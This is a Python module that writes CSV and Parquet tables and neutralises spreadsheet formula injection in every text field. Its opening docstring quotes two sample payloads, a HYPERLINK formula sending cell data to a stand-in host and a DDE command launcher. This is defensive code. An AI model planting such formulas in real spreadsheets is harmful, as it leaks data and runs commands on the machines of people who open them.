"""CSV (and Parquet) tables for other programs, with every text field defused against formula injection.

A spreadsheet opening a CSV runs a field that starts with ``=``, ``+``, ``-`` or ``@`` as a formula (and
some also after a tab or a carriage return): ``=HYPERLINK("http://evil.example/?x="&A1,"Click me")`` or
``+cmd|' /C calc'!A0``. As OWASP recommends, such a text field is written with a leading ``'``, which
spreadsheets show as text and drop; numbers, dates and booleans are written as they are. A carriage
return inside a field is written as a line feed (``\r\n`` too), which the field's quotes keep inside it
(Python's CSV writer would leave a lone ``\r`` unquoted, and readers would split the row there).
"""

from __future__ import annotations

import contextlib
import io
import os
from collections.abc import Iterator, Sequence
from pathlib import Path
from typing import Any

import pandas as pd

from journeymap.io.atomic import atomic_path

__all__ = ["FORMULA_STARTS", "CsvStream", "csv_text", "neutralise", "open_csv", "safe_frame", "write_csv",
           "write_parquet"]

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""The first characters that make a spreadsheet read a text field as a formula (OWASP's list)."""

_PATTERN = r"^[=+\-@\t\r]"


def neutralise(text: str) -> str:
    """``text`` safe to put in a CSV field: with a leading ``'`` when it starts like a formula, and its
    carriage returns as line feeds."""
    text = "'" + text if text.startswith(FORMULA_STARTS) else text
    return text.replace("\r\n", "\n").replace("\r", "\n") if "\r" in text else text


def _safe_value(value: Any) -> Any:
    return neutralise(value) if isinstance(value, str) else value


def _safe_column(column: pd.Series) -> pd.Series:
    if isinstance(column.dtype, pd.CategoricalDtype):
        categories = [_safe_value(c) for c in column.cat.categories]
        if len(set(categories)) == len(categories):
            return column.cat.rename_categories(categories)
        column = column.astype(object)
    if column.dtype == object or pd.api.types.is_string_dtype(column.dtype):
        starts = column.str.match(_PATTERN, na=False) if len(column) else column.astype(bool)
        if starts.any():
            column = column.copy()
            column[starts] = "'" + column[starts].astype(str)
        returns = column.str.contains("\r", regex=False, na=False) if len(column) else starts
        if returns.any():
            column = column.copy()
            column[returns] = column[returns].str.replace("\r\n", "\n", regex=False).str.replace("\r", "\n",
                                                                                                    regex=False)
    return column


def safe_frame(frame: pd.DataFrame, *, index: bool = False) -> pd.DataFrame:
    """A copy of ``frame`` whose text (values, column names and, with ``index=True``, the index turned
    into leading columns) is neutralised; numbers and dates untouched."""
    if index:
        frame = frame.reset_index()
    safe = pd.DataFrame({k: _safe_column(frame.iloc[:, k]) for k in range(frame.shape[1])})
    safe.columns = [neutralise(str(c)) for c in frame.columns]
    return safe


def _options(float_format: str | None, date_format: str | None, delimiter: str = ",") -> dict[str, Any]:
    options: dict[str, Any] = {"index": False, "lineterminator": "\n", "sep": delimiter}
    if float_format is not None:
        options["float_format"] = float_format
    if date_format is not None:
        options["date_format"] = date_format
    return options


def csv_text(frame: pd.DataFrame, *, index: bool = False, float_format: str | None = None,
             date_format: str | None = None) -> str:
    """``frame`` as CSV text (UTF-8, ``\\n`` line ends, a header row), every text field neutralised."""
    return safe_frame(frame, index=index).to_csv(**_options(float_format, date_format))


def write_csv(path: str | os.PathLike[str], frame: pd.DataFrame, *, index: bool = False,
              float_format: str | None = None, date_format: str | None = None, delimiter: str = ",",
              bom: bool = False) -> Path:
    """Write ``frame`` as CSV (see :func:`csv_text`) to ``path`` atomically; returns the path.
    ``delimiter="\\t"`` writes tab-separated values; ``bom=True`` starts the file with a UTF-8 byte-order
    mark (Excel then reads accents right, and LimeSurvey expects one)."""
    with open_csv(path, index=index, float_format=float_format, date_format=date_format, delimiter=delimiter,
                  bom=bom) as out:
        out.write(frame)
    return Path(path)


class CsvStream:
    """A CSV file written a chunk at a time (the header with the first chunk), for tables larger than memory."""

    def __init__(self, handle: io.TextIOBase, *, index: bool, float_format: str | None,
                 date_format: str | None, delimiter: str = ",") -> None:
        self._handle = handle
        self._index = index
        self._options = _options(float_format, date_format, delimiter)
        self._columns: list[str] | None = None
        self.rows = 0

    def write(self, frame: pd.DataFrame) -> None:
        """Append ``frame``'s rows (every chunk must have the first one's columns)."""
        safe = safe_frame(frame, index=self._index)
        columns = [str(c) for c in safe.columns]
        if self._columns is None:
            self._columns = columns
            safe.to_csv(self._handle, header=True, **self._options)
        elif columns != self._columns:
            raise ValueError(f"a chunk with columns {columns} does not match the first chunk's {self._columns}")
        else:
            safe.to_csv(self._handle, header=False, **self._options)
        self.rows += len(safe)


@contextlib.contextmanager
def open_csv(path: str | os.PathLike[str], *, index: bool = False, float_format: str | None = None,
             date_format: str | None = None, delimiter: str = ",", bom: bool = False) -> Iterator[CsvStream]:
    """A :class:`CsvStream` onto ``path``; the file appears (atomically) only when the block ends well::

        with open_csv("events.csv") as out:
            for chunk in chunks:
                out.write(chunk)
    """
    encoding = "utf-8-sig" if bom else "utf-8"
    with atomic_path(path) as tmp, tmp.open("w", encoding=encoding, newline="") as handle:
        yield CsvStream(handle, index=index, float_format=float_format, date_format=date_format, delimiter=delimiter)


def write_parquet(path: str | os.PathLike[str], frame: pd.DataFrame, *, columns: Sequence[str] | None = None) -> Path:
    """Write ``frame`` as Parquet (no formulas there: the text is kept exactly) atomically; needs pyarrow."""
    try:
        import pyarrow  # noqa: F401
    except ImportError:
        raise ImportError("writing Parquet needs pyarrow: pip install pyarrow (or write .csv)") from None
    with atomic_path(path) as tmp:
        (frame if columns is None else frame[list(columns)]).to_parquet(tmp, index=False)
    return Path(path)
